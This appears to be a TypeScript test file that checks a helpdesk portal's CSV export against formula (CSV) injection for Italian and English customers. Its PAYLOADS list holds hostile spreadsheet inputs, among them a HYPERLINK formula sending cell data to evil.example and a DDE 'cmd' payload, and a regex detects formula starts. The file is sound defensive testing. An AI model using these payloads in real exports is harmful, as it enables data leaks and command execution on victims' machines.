/**
 * CSV (formula) injection through the page's list export, end to end: tickets whose titles a
 * customer typed as formulas, with the separator, quotes and line breaks inside, exported by an
 * Italian customer (`;`, decimal commas) and an English one (`,`). Read back with a strict CSV
 * reader, every row has exactly the list's columns, every title reads as stored (behind the `'`
 * that disarms a formula), and no cell starts as something a spreadsheet would run.
 */
import { expect } from 'chai';
import { startTestHost, type TestHost } from '../support/host.js';
import { idsWhere } from '../portal-api/api-test-kit.js';
import { MARIO, JANE, recordIdsIn, signedIn } from './portal-pages-kit.js';

/** RFC 4180 with a chosen separator: quoted cells may hold the separator, quotes doubled, CR and LF. */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), (i += 2);
      else if (c === '"') (quoted = false), (i += 1);
      else (cell += c), (i += 1);
      continue;
    }
    if (c === '"' && cell === '') (quoted = true), (i += 1);
    else if (c === separator) row.push(cell), (cell = ''), (i += 1);
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), (i += 2);
    else (cell += c), (i += 1);
  }
  if (cell !== '' || row.length > 0) row.push(cell), rows.push(row);
  return rows;
}

/** What a spreadsheet takes for a formula (or DDE) at the start of a cell, blanks before it included. */
const RUNS = /^(?:[\t\r]|\s*[=+\-@|\uFF1D\uFF0B\uFF0D\uFF20\uFF5C])/u;

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  '|calc',
  'Printer; =1+1',
  'Printer, =1+1',
  'He said "=1+1"',
  'two\r\nlines =1+1',
  'a;"b";c',
  '";=1+1;"',
];

describe('page export: formula injection, separators and quotes in cells @db', function () {
  this.timeout(120_000);
  let test: TestHost;

  before(async () => {
    test = await startTestHost({ demo: true, logLevel: 'error' });
  });
  after(async () => test?.stop());

  for (const [who, email, language, separator] of [
    ['Italian (;)', MARIO, 'it', ';'],
    ['English (,)', JANE, 'en', ','],
  ] as const) {
    it(`${who}: every row has the list's columns, each title reads as stored, no cell would run`, async () => {
      const client = await signedIn(test, email, language);
      if (language === 'it') client.cookies.set('bp_lang', 'it');
      const ids = recordIdsIn((await client.get('/m/HelpDesk')).html, 'HelpDesk');
      expect(ids.length, 'the customer has tickets').to.be.greaterThan(0);
      const stored = new Map<string, string>();
      for (const [n, id] of ids.entries()) {
        const title = `${PAYLOADS[n % PAYLOADS.length]!}`;
        await test.host.api.records.update('HelpDesk', id, { values: { ticket_title: title } });
        stored.set(String(id), title);
      }
      // The rest of the payloads on tickets of the same contact.
      const contactId = (await idsWhere(test.host.api, 'Contacts', 'email', email))[0]!;
      for (let n = ids.length; n < PAYLOADS.length; n += 1) {
        const made = await test.host.api.records.create('HelpDesk', { values: { ticket_title: PAYLOADS[n]!, contact_id: contactId, status: 'Open', priority: 'Normal' } });
        stored.set(String(made.id), PAYLOADS[n]!);
      }

      const { response, html } = await client.get('/m/HelpDesk/export.csv?sort=ticket_no&dir=asc');
      expect(response.status, html.slice(0, 300)).to.equal(200);
      const rows = parseCsv(html.replace(/^\uFEFF/, ''), separator);
      const header = rows[0]!;
      expect(header.join('|'), 'the header in the customer’s language').to.match(language === 'it' ? /Titolo/ : /Title/);
      const titleAt = header.indexOf(language === 'it' ? 'Titolo' : 'Title');
      const titles: string[] = [];
      for (const row of rows.slice(1)) {
        expect(row, JSON.stringify(row)).to.have.length(header.length);
        for (const cell of row) expect(RUNS.test(cell), `a cell that would run: ${JSON.stringify(cell)}`).to.equal(false);
        const title = row[titleAt]!;
        titles.push(title.startsWith("'") ? title.slice(1) : title);
      }
      // Every title survives whole (a title that is no formula keeps no prefix).
      for (const title of stored.values()) expect(titles, JSON.stringify(title)).to.include(title);
      expect(titles).to.include('a;"b";c');
    });
  }
});
